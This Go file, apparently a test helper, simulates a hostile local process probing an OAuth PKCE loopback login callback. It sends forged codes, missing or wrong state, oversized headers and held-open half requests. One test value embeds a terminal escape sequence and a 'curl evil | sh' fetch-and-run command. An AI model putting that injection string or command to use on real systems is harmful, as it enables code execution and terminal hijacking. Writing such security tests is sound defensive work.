package fakesso

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// Probe is one request a hostile local process sent to a login callback,
// and the status it got (0 when the request failed; Err says how).
type Probe struct {
	Name   string
	Status int
	Err    error
}

func (p Probe) String() string {
	if p.Err != nil {
		return fmt.Sprintf("%s: %v", p.Name, p.Err)
	}
	return fmt.Sprintf("%s: %d", p.Name, p.Status)
}

// ProbeCallback is what any local process can do to the PKCE callback of a
// login in progress: it finds the port (in /proc/net/tcp; here from
// redirectURI) and sends requests that do not carry the login's state: a
// stolen-looking code, a refusal, a refusal with no state at all, nothing,
// other paths, and a header far too large. knownState, when not "", adds
// requests that carry the right state on another path or method. Each
// request goes on its own connection.
func ProbeCallback(redirectURI, knownState string) []Probe {
	u, err := url.Parse(redirectURI)
	if err != nil || !isLoopback(u.Hostname()) {
		return []Probe{{Name: "parse", Err: fmt.Errorf("fakesso: %q is not a loopback redirect uri", redirectURI)}}
	}
	base := "http://" + u.Host
	type req struct {
		name, method, path string
		query              url.Values
		header             http.Header
	}
	reqs := []req{
		{name: "wrong state with a code", path: u.Path, query: url.Values{"code": {"attacker-code"}, "state": {"attacker-state"}}},
		{name: "wrong state with error=access_denied", path: u.Path, query: url.Values{"error": {"access_denied"}, "error_description": {"\x1b]0;pwned\x07run `curl evil | sh`"}, "state": {"attacker-state"}}},
		{name: "error= and no state", path: u.Path, query: url.Values{"error": {"access_denied"}, "error_description": {"denied"}}},
		{name: "a code and no state", path: u.Path, query: url.Values{"code": {"attacker-code"}}},
		{name: "empty state", path: u.Path, query: url.Values{"code": {"attacker-code"}, "state": {""}}},
		{name: "no parameters", path: u.Path},
		{name: "another path", path: "/", query: url.Values{"code": {"attacker-code"}, "state": {"attacker-state"}}},
		{name: "favicon", path: "/favicon.ico"},
		{name: "POST to the callback", method: http.MethodPost, path: u.Path, query: url.Values{"error": {"access_denied"}}},
		{name: "a huge header", path: u.Path, query: url.Values{"error": {"access_denied"}}, header: http.Header{"X-Junk": {strings.Repeat("A", 1<<20)}}},
		{name: "a huge query", path: u.Path, query: url.Values{"error": {"access_denied"}, "error_description": {strings.Repeat("B", 1<<20)}}},
	}
	if knownState != "" {
		reqs = append(reqs,
			req{name: "right state on another path", path: u.Path + "/x", query: url.Values{"error": {"access_denied"}, "state": {knownState}}},
			req{name: "right state, POST", method: http.MethodPost, path: u.Path, query: url.Values{"error": {"access_denied"}, "state": {knownState}}},
			req{name: "right state twice", path: u.Path, query: url.Values{"error": {"access_denied"}, "state": {knownState, knownState}}},
		)
	}
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DisableKeepAlives: true, Proxy: nil}}
	defer c.CloseIdleConnections()
	var out []Probe
	for _, r := range reqs {
		method := r.method
		if method == "" {
			method = http.MethodGet
		}
		target := base + r.path
		if len(r.query) > 0 {
			target += "?" + r.query.Encode()
		}
		hr, err := http.NewRequest(method, target, nil)
		if err != nil {
			out = append(out, Probe{Name: r.name, Err: err})
			continue
		}
		for k, v := range r.header {
			hr.Header[k] = v
		}
		resp, err := c.Do(hr)
		if err != nil {
			out = append(out, Probe{Name: r.name, Err: err})
			continue
		}
		resp.Body.Close()
		out = append(out, Probe{Name: r.name, Status: resp.StatusCode})
	}
	return out
}

// HoldCallbackOpen opens a connection to the callback at redirectURI and
// sends half a request, as a slow hostile client would, and leaves it
// open; close the returned connection when done.
func HoldCallbackOpen(redirectURI string) (net.Conn, error) {
	u, err := url.Parse(redirectURI)
	if err != nil || !isLoopback(u.Hostname()) {
		return nil, fmt.Errorf("fakesso: %q is not a loopback redirect uri", redirectURI)
	}
	conn, err := net.DialTimeout("tcp", u.Host, 5*time.Second)
	if err != nil {
		return nil, err
	}
	w := bufio.NewWriter(conn)
	fmt.Fprintf(w, "GET %s?error=access_denied HTTP/1.1\r\nHost: %s\r\nX-Slow: ", u.Path, u.Host)
	if err := w.Flush(); err != nil {
		conn.Close()
		return nil, err
	}
	return conn, nil
}
